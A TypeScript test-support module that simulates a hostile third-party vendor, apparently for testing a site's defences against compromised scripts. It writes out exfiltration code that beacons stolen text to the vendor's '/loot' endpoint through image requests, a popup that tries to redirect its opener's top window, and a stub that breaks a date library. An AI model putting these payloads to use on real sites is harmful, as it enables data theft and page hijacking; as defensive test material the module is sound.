import { recordShape } from '../../../scripts/support/record-shape.ts'
import { thirdParties } from '../../support/providers/answers.ts'
import { providerOrigin } from '../../support/providers/configuration.ts'
import type { Attempt } from './attempt.ts'

export interface Answer {
  contentType: string
  body: string
}

export type Part = 'pricing' | 'exam'

/** What its window tries, and then says that it has. */
const popup = `<!doctype html><title>Popup</title><script>
for (const take of [
  () => { opener.top.location = '${providerOrigin}/taken' },
  () => { opener.parent.location = '${providerOrigin}/taken' },
  () => { opener.top.location.replace('${providerOrigin}/taken') },
]) try { take() } catch {}
new Image().src = '${providerOrigin}/loot?by=done'
</script>`

/**
 * A vendor that has turned against the site: its scripts work as ever, and try something besides. What they carry off
 * arrives at its own server, which the vendor's document may reach.
 */
export function hostileVendor() {
  let script = ''
  let loot: { by: string; text: string }[] = []
  return {
    /** From now on its scripts try these, one after the other; what was carried off before is forgotten. */
    turn: (tried: readonly Attempt[]) => {
      script = scriptOf(tried)
      loot = []
    },
    lootOf: (name: string) =>
      loot
        .filter(({ by }) => by === name)
        .map(({ text }) => text)
        .join('\n'),
    /** Whether its script has tried all that it wanted to. */
    isDone: () => loot.some(({ by }) => by === 'done'),
    /** What it answers at an address of its origin. */
    answer(address: string): Answer {
      const { pathname, searchParams } = new URL(address)
      const code = (body: string) => ({ contentType: 'text/javascript', body })
      if (pathname === '/pricing-table.js') return code(script + thirdParties.pricing.works)
      if (pathname === '/exam-widget.js') return code(script + thirdParties.exam.works)
      if (pathname === '/dates.js') return code('window.moment = () => undefined;')
      if (pathname === '/popup') return { contentType: 'text/html', body: popup }
      if (pathname === '/loot') loot.push({ by: searchParams.get('by') ?? '', text: searchParams.get('text') ?? '' })
      return { contentType: 'text/html', body: '<!doctype html><title>Taken</title>' }
    },
  }
}

/** Once all is tried, three more requests go by before the script says so: what it set off has begun by then, or has not. */
function scriptOf(tried: readonly Attempt[]): string {
  const by = tried.find((attempt) => attempt.by)?.by
  const steps = tried.map(
    ({ name, script }) =>
      `await (async (steal) => { ${script} })((text) => send('${name}', text)).catch(() => undefined)`,
  )
  if (by !== 'popup') steps.push(`for (const word of ['first', 'second', 'done']) await send(word, '')`)
  return `{
  const vendor = '${providerOrigin}'
  const site = document.documentElement.dataset.site ?? location.origin
  const records = site + '/content/${recordShape()}'
  const send = (by, text) => new Promise((resolve) => {
    const image = new Image()
    image.onload = image.onerror = resolve
    image.src = vendor + '/loot?by=' + encodeURIComponent(by) + '&text=' + encodeURIComponent(text)
  })
  const start = async () => {
    ${steps.join('\n    ')}
  }
  ${by ? `addEventListener('click', () => void start(), true)` : 'void start()'}
};`
}
